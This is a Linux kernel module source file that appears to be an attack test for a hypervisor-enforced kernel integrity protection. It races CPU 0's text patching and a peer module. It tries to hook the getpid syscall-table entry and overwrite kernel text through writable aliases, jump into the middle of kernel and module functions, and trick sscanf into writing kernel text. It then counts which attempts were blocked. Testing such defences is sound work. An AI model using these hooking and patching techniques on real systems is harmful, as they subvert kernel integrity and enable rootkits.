// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: a race against the other CPU (scenario linux-integrity-race).
 * A kthread bound to CPU 1 loops, while CPU 0 flips a static key (the
 * kernel rewrites its text with text_poke) and loads and unloads a benign
 * module (race_peer) that tells us, in a heap page of ours, where its data is:
 *
 *  - it writes a syscall table entry (getpid) through a writable alias;
 *  - it watches one of the static key's patch sites in kernel text
 *    (counting the times it saw CPU 0's text_poke change it) and, every
 *    round, writes ud2 over the site through a writable alias, calls into
 *    the site (the middle of a kernel function), and asks the kernel to
 *    set the site's first byte to 0xff through the alias (sscanf, whose
 *    destinations the hypervisor reads from its format and its pointers
 *    at the call, while CPU 0's text_poke has the page opened for it);
 *  - it writes over a variable in race_peer's data (a page granted to
 *    race_peer's view) and calls into the middle of one of race_peer's
 *    functions, at the addresses race_peer leaves in the heap page, with
 *    interrupts off from reading them to using them (so that race_peer,
 *    which clears them before it goes, cannot be gone in between: while
 *    this CPU runs this module's code, CPU 0 is held outside the guest).
 *
 * The thread is started, and enters this module's code, before the first
 * refused access; it then never leaves the module's code but by calls into
 * the kernel that return. It runs `rounds` rounds (or until the module is
 * removed), then reports, and waits for module_exit to stop it.
 */
#include <linux/module.h>
#include <linux/kthread.h>
#include <linux/delay.h>
#include <linux/completion.h>
#include <linux/jump_label.h>
#include <linux/syscalls.h>
#include <linux/gfp.h>
#include <linux/kernel.h>
#include <asm/irqflags.h>
#include "alias.h"

static unsigned long table;
module_param(table, ulong, 0400);
/* The static key CPU 0 flips (sched_schedstats). */
static unsigned long key;
module_param(key, ulong, 0400);
static unsigned int rounds = 300;
module_param(rounds, uint, 0400);
/* The heap page race_peer writes into, for /init to hand it. */
static unsigned long bait;
module_param(bait, ulong, 0444);
/* 1 once the thread has reported. */
static int done;
module_param(done, int, 0444);

static struct task_struct *thread;
static DECLARE_COMPLETION(started);
static unsigned long site;

static long hooked_getpid(const struct pt_regs *regs)
{
	return 4242;
}

/* A writable alias of the page holding `addr`. */
static void *alias_of(unsigned long addr, pgprot_t prot)
{
	struct page *page = virt_to_page(lm_alias((void *)addr));
	void *a = vmap(&page, 1, VM_MAP, prot);

	return a ? a + (addr & ~PAGE_MASK) : NULL;
}

/* The first patch site of the static key: the text text_poke rewrites. */
static unsigned long key_site(void)
{
	struct static_key *k = (struct static_key *)key;
	struct jump_entry *e;

	if (!k || (k->type & JUMP_TYPE_LINKED))
		return 0;
	e = (struct jump_entry *)(k->type & ~JUMP_TYPE_MASK);
	return e ? jump_entry_code(e) : 0;
}

static int race(void *unused)
{
	unsigned long *entry = NULL, hook = (unsigned long)hooked_getpid;
	u16 *text = NULL, ud2 = 0x0b0f, last_site;
	unsigned long *table_at = (unsigned long *)table + __NR_getpid;
	unsigned long table_before = READ_ONCE(*table_at);
	unsigned int i, cpu_mismatch = 0, pokes_seen = 0, peer_seen = 0, last_gen = 0;
	unsigned int table_writes = 0, text_writes = 0, text_calls = 0, peer_writes = 0, peer_calls = 0, peer_gone = 0;
	unsigned int through = 0, peer_faults = 0, deputy_writes = 0;
	long r;

	/* Every mapping before the first refused access. */
	site = key_site();
	if (table)
		entry = alias_of((unsigned long)table_at, PAGE_KERNEL);
	/* (A site whose two bytes straddle a page is left alone.) */
	if (site && (site & ~PAGE_MASK) != PAGE_SIZE - 1)
		text = alias_of(site, PAGE_KERNEL);
	last_site = site ? READ_ONCE(*(u16 *)site) : 0;
	complete(&started);

	for (i = 0; i < rounds && !kthread_should_stop(); i++) {
		unsigned int gen = READ_ONCE(*(u32 *)(bait + 64));
		u16 now = site ? READ_ONCE(*(u16 *)site) : 0;

		if (raw_smp_processor_id() != 1)
			cpu_mismatch++;
		if (now != last_site) {
			pokes_seen++;
			last_site = now;
		}
		if (gen != last_gen) {
			peer_seen++;
			last_gen = gen;
		}
		if (entry) {
			WRITE_ONCE(*entry, hook);
			table_writes++;
			if (READ_ONCE(*table_at) != table_before)
				through++;
		}
		if (text) {
			long (*mid)(void) = (void *)site;

			WRITE_ONCE(*text, ud2);
			text_writes++;
			if (READ_ONCE(*(u16 *)site) == ud2)
				through++;
			/* A refused call returns 0 (the site is no export, so no
			 * convention); the code there would have left something
			 * else. The records count every refusal besides. */
			r = mid();
			text_calls++;
			if (r != 0)
				through++;
			sscanf("255", "%hhu", (u8 *)text);
			deputy_writes++;
			if (READ_ONCE(*(u8 *)site) == 0xff)
				through++;
		}
		if (gen) {
			unsigned long flags = native_save_fl(), at, mid, v = 0;

			native_irq_disable();
			at = READ_ONCE(*(unsigned long *)(bait + 8));
			mid = READ_ONCE(*(unsigned long *)(bait + 16));
			if (at && mid && nofault_write(at, 0x41)) {
				peer_faults++;
			} else if (at && mid) {
				long (*peer_mid)(void) = (void *)mid;

				peer_writes++;
				__get_kernel_nofault(&v, (unsigned long *)at, unsigned long, gone);
				if ((v & 0xff) == 0x41)
					through++;
				r = peer_mid();
				peer_calls++;
				if (r != 0)
					through++;
			} else {
gone:
				peer_gone++;
			}
			if (flags & X86_EFLAGS_IF)
				native_irq_enable();
		}
		/* The kernel's view again: CPU 0 may run. */
		msleep(1);
	}
	report("%u rounds; saw %u pokes and %u peer writes; attempts: %u syscall table writes, %u text writes, "
	       "%u calls into the poked site, %u text writes by the kernel for us, %u writes to the peer's data, "
	       "%u calls into its code (%u times it was gone, %u faults), %u total; %s; getpid entry %s; "
	       "off CPU 1: %u rounds",
	       i, pokes_seen, peer_seen, table_writes, text_writes, text_calls, deputy_writes, peer_writes, peer_calls,
	       peer_gone, peer_faults, table_writes + text_writes + text_calls + deputy_writes + peer_writes + peer_calls,
	       through ? "WENT THROUGH" : "none went through",
	       READ_ONCE(*table_at) == table_before ? "unchanged" : "CHANGED", cpu_mismatch);
	if (entry)
		vunmap((void *)((unsigned long)entry & PAGE_MASK));
	if (text)
		vunmap((void *)((unsigned long)text & PAGE_MASK));
	WRITE_ONCE(done, 1);
	while (!kthread_should_stop())
		msleep(20);
	return 0;
}

static int __init atk_init(void)
{
	bait = __get_free_page(GFP_KERNEL | __GFP_ZERO);
	if (!bait)
		return -ENOMEM;
	thread = kthread_create(race, NULL, "atk_race");
	if (IS_ERR(thread)) {
		free_page(bait);
		return PTR_ERR(thread);
	}
	kthread_bind(thread, 1);
	wake_up_process(thread);
	wait_for_completion(&started);
	report("thread started on CPU 1; patch site %s", site ? "found" : "NOT FOUND");
	return 0;
}

static void __exit atk_exit(void)
{
	/* race_peer, which wrote the page, is gone by now. */
	kthread_stop(thread);
	free_page(bait);
}
module_init(atk_init);
module_exit(atk_exit);
MODULE_LICENSE("GPL");
